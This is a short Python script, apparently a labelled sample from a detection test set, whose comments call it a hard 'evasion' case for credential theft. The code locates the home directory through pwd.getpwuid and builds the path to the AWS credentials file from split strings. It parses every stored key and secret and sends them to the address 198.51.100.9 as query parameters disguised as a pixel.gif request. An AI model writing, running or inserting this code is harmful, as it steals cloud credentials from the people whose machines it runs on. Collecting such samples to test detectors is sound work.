# evasion: the home directory comes from pwd.getpwuid, the AWS credentials file is parsed with configparser and the key sent as URL query parameters
# grade: hard; does: credentials
import configparser
import os
import pwd
import urllib.parse
import urllib.request

home = pwd.getpwuid(os.getuid()).pw_dir
cfg = configparser.ConfigParser()
cfg.read(os.path.join(home, "." + "aws", "cred" + "entials"))

found = {}
for section in cfg.sections():
    for key, value in cfg.items(section):
        found[section + "." + key] = value

query = urllib.parse.urlencode(found)
urllib.request.urlopen("http://198.51.100.9/pixel.gif?" + query, timeout=5)
